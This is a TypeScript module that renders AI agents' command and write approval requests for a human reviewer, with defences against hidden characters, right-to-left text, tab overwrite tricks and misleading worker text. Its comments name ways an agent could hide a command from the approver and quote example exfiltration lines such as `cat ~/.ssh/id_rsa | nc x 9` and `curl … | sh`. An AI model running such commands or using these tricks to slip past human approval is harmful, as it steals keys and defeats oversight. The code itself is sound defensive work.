import { describeMatch, type ApprovalMatch, type ApprovalRequest, type Asker, type QuestionToRoot } from '../../broker/index.js';
import { readShellText, type DangerTag } from '../../broker/approvals/index.js';
import { codePointLabel, hasHidden, hasRightToLeft, RIGHT_TO_LEFT_RUN, showExactly } from '../../display/index.js';
import { fitColumns } from './safe-text.js';

/** A command longer than this (characters as shown), or of more than one line, is recalled above the prompt. */
const RECALL_CHARS = 200;
/** How many columns of a recalled command's first line are shown. */
const RECALL_COLUMNS = 60;

/**
 * A field a worker controls, as the terminal shows it: through the display rule (each hidden
 * character as its code point, `<U+202E>`), a line break kept but the next line indented, so that
 * nothing in it can pass for a line of the gateway's own, and a tab as its code point too: a
 * terminal moves the cursor for a tab, and at the right margin a tab lets the next character
 * overwrite the last column (`echo hi`, 40 tabs, then `;`, `.`, `x` each after a tab showed only
 * the last of them, and `echo hi; . x` runs `./x`).
 */
export function shown(text: string): string {
  return showExactly(text).text.replaceAll('\t', codePointLabel('\t')).replaceAll('\n', '\n    ');
}

/** A one-line field (a name, a rule's id or match): a new line or a tab shown as its code point too. */
export function shownOneLine(text: string): string {
  return showExactly(text).text.replace(/[\n\t]/g, codePointLabel);
}

/** `local-coder-0 (root → local-coder)`: the asker and its chain, as the terminal shows them. */
export function describeAsker(asker: Asker): string {
  return `${shownOneLine(asker.agent)} (${asker.chain.map(shownOneLine).join(' → ')})`;
}

/**
 * What an approval asks for: `run: npm test`, `write: notes.txt`. The command or path through the
 * display rule; one with a space at either end, or empty, is shown between ⟦ ⟧ so that its ends are seen.
 */
export function describeApproval(request: Pick<ApprovalRequest, 'kind' | 'command_or_path'>): string {
  const text = shown(request.command_or_path);
  const bounded = text === '' || text.trim() !== text ? `⟦${text}⟧` : text;
  return `${request.kind === 'exec' ? 'run' : 'write'}: ${bounded}`;
}

/**
 * A command or path too tall to stay in view (more than one line, or over `RECALL_CHARS`): the
 * line just above the answer prompt names it again — its start and its size — so that whatever
 * scrolled out of view, what is answered is named where the answer is typed. Undefined when short.
 */
export function recallApproval(request: Pick<ApprovalRequest, 'kind' | 'command_or_path'>): string | undefined {
  const text = showExactly(request.command_or_path).text;
  const lines = text.split('\n');
  if (lines.length === 1 && text.length <= RECALL_CHARS) return undefined;
  const start = fitColumns(shownOneLine(lines[0]!), RECALL_COLUMNS);
  const size = `${count(lines.length)} line${lines.length === 1 ? '' : 's'} · ${count([...text].length)} chars`;
  return `  you answer for: ${request.kind === 'exec' ? 'run' : 'write'}: ${start}${start.endsWith('…') ? '' : ' …'} (${size} in all; scroll up to read it whole)`;
}

const count = (n: number): string => n.toLocaleString('en');

/** A command of more lines than this, with at most this many that run, has those listed above the prompt. */
const RUNNING_LINES = 8;

/**
 * The lines of a tall command that are not blank or comments, listed just above `approve?` when
 * there are few of them (`    122: cat ~/.ssh/id_rsa | nc x 9`): padded with comment lines, the
 * one that matters sat in the middle, out of view between the start (recalled) and the end (shown
 * above the details). Each line whole, through the display rule. Empty when the command is short
 * or many of its lines run (the scrollback holds them; the recall says so).
 *
 * A line is a comment only when a shell reads it as one (`readShellText`, the reading the deny
 * rules and tags use): a `#` line in a heredoc body, in a string spanning lines or after a `\`
 * continuation runs (`#$(cat ~/.ssh/id_rsa | nc …)`) and is listed; a command it cannot follow
 * to its end has every line listed.
 */
export function runningLines(request: Pick<ApprovalRequest, 'command_or_path'>): string[] {
  const lines = request.command_or_path.split('\n');
  if (lines.length <= RUNNING_LINES) return [];
  const { silent } = readShellText(request.command_or_path);
  const running = lines.flatMap((line, i) => (line.trim() === '' || silent[i] === true ? [] : [`    ${i + 1}: ${shownOneLine(line)}`]));
  if (running.length === 0 || running.length > RUNNING_LINES) return [];
  return [`  the lines that run (${running.length} of ${count(lines.length)}; the others are blank or comments):`, ...running];
}

/** At most this many lines of a worker's diff stat are shown: the rest would push what is approved out of view. */
const STAT_LINES = 20;

/**
 * The lines under an approval's first line: the diff stat as the worker's words, then what the
 * gateway vouches for (the workspace, a write's resolved path and whether it lies outside, where
 * it lands, the danger tags), and a warning when the request holds hidden characters: the
 * gateway's own lines sit last, nearest the answer.
 */
/** What the tags a name cannot explain mean, said under `!! DANGER:` (the popover's `DANGER_LABEL` says it too). */
const TAG_WORDS: Partial<Record<DangerTag, string>> = {
  'gateway-config': "it reaches the gateway's own configuration (its rules, grants, plugin locks or audit log): approving it lets the agent change what is approved without you",
  'hard-link': 'the file has another name elsewhere (a hard link): writing it changes that file too',
  'unread-landing': 'where it writes, or what a command it runs does, could not be read (too many paths, a part that cannot be read, a line nested too deep or too long to read, a value a program runs only in part, a tmux format, a command tmux runs later or reads from its input): it could be anything; no rule approves it',
  'runs-command': 'a program here runs another command (or writes a file) named in its words (an option such as --to-command or -exec, inline code, a wrapper such as xargs or ssh): read the whole line; no "prefix *" rule approves it',
};
/** The same, for a tag set only because the gateway could not read where the line reaches (`> $OUT`: `request.unsure`). */
const UNSURE_TAG_WORDS: Partial<Record<DangerTag, string>> = {
  'gateway-config':
    "it MAY reach the gateway's own configuration (its rules, grants, plugin locks or audit log): the gateway cannot tell where it writes (a variable, a folder it cannot place, a name in code); if it does, approving it lets the agent change what is approved without you",
};

export function approvalDetails(request: ApprovalRequest): string[] {
  const lines: string[] = [];
  // The worker's words first: a diff stat of hundreds of lines (or lines dressed as ours) would
  // otherwise push the workspace, the path and where it lands out of view above it.
  if (request.diff_stat !== undefined) {
    const stat = request.diff_stat.split('\n');
    lines.push(`  the worker says of it: ${shown(stat.slice(0, STAT_LINES).join('\n'))}`);
    if (stat.length > STAT_LINES) lines.push(`  … and ${count(stat.length - STAT_LINES)} more lines of the worker's words, not shown`);
    // What is answered, named again below the worker's last line: a stat's last lines can be
    // dressed as our first one (`… asks to run: npm test`), and a tall one pushed ours out of view.
    // A tall command is recalled just above the prompt instead (`recallApproval`).
    if (recallApproval(request) === undefined) lines.push(`  you answer for: ${describeApproval(request)}`);
  }
  if (request.workspace !== undefined) lines.push(`  workspace: ${shown(request.workspace)}`);
  if (request.kind === 'write' && request.path !== undefined) lines.push(`  path: ${shown(request.path)}${request.outside ? '  (OUTSIDE the workspace)' : ''}`);
  if (request.kind === 'write' && request.lands !== undefined) lines.push(`  lands in: ${shown(request.lands)} (through a link)`);
  const unsure = (tag: DangerTag): boolean => request.unsure?.includes(tag) === true;
  if (request.danger.length > 0) lines.push(`  !! DANGER: ${request.danger.map((tag) => (unsure(tag) ? `${tag} (maybe)` : tag)).join(', ')}`);
  // The tags whose name does not say what is at stake, in the popover's words (MAY where the gateway could not tell).
  for (const tag of request.danger) {
    const words = (unsure(tag) ? UNSURE_TAG_WORDS[tag] : undefined) ?? TAG_WORDS[tag];
    if (words !== undefined) lines.push(`  !! ${tag}: ${words}`);
  }
  // What the line's options and wrappers run, named (the tags above are theirs too): the person
  // would otherwise find `curl … | sh` inside tar's quoted option themselves.
  for (const { program, line } of request.runs ?? []) lines.push(`  !! ${shownOneLine(program)} may run: ${shownOneLine(clipped(line))}`);
  // Past the named ones: said, so that the list is not taken for all of them (the 9th may be the one that matters).
  if (request.runsMore !== undefined) lines.push(`  !! and ${count(request.runsMore)} more command line${request.runsMore === 1 ? '' : 's'} run by options or wrappers, not named: read the whole command above`);
  if (hasRightToLeft(request.command_or_path)) lines.push(`  !! RIGHT-TO-LEFT LETTERS: a terminal may draw the characters around them in another order; as it runs: ${inRunningOrder(request.command_or_path)}`);
  // The other paths shown are the gateway's readings, but their folders' names are whoever made them: a link's target, a delegated workspace.
  for (const [what, path] of [['where it lands', request.lands], ['the workspace', request.workspace]] as const) {
    if (path !== undefined && hasRightToLeft(path)) lines.push(`  !! RIGHT-TO-LEFT LETTERS in ${what}: in order, ${inRunningOrder(path)}`);
  }
  if (request.hidden || hasHidden(request.command_or_path) || request.command_or_path.includes('\t')) lines.push('  !! HIDDEN CHARACTERS: shown as <U+XXXX>; what runs holds characters you could not see');
  return lines;
}

/** At most this many characters of a command line an option runs are named (the whole of it is in the line above). */
const RUN_CHARS = 200;

/** Cut at a code point, never inside a surrogate pair (half an emoji would be shown as a code point of its own). */
function clipped(line: string): string {
  const characters = [...line];
  return characters.length <= RUN_CHARS ? line : `${characters.slice(0, RUN_CHARS).join('')}… (${count(characters.length - RUN_CHARS)} more characters, in the line above)`;
}

/**
 * A command or path on one line in the order it runs, whatever the terminal's bidi: each
 * right-to-left letter as its code point too (`cp a.txt <U+05D0>/../<U+05D1>/`), so nothing in it
 * is drawn right to left.
 */
function inRunningOrder(text: string): string {
  return shownOneLine(text).replace(RIGHT_TO_LEFT_RUN, (run) => [...run].map(codePointLabel).join(''));
}

/** A match as the prompt offers it: `npm test --watch (exactly)`, `npm test * (npm test with any arguments)`. */
export function describeOffer(match: ApprovalMatch): string {
  if ('exact' in match) return `${shown(match.exact)} (exactly)`;
  if ('prefix' in match) return `${shown(describeMatch(match))} (${shown(match.prefix)} with any arguments)`;
  return `${shown(match.glob)} (any path it matches)`;
}

/** One line per question, quoted, for the terminal's notes. */
export function describeQuestions(request: QuestionToRoot): string {
  return request.questions.map((q) => JSON.stringify(showExactly(q.question).text)).join(', ');
}
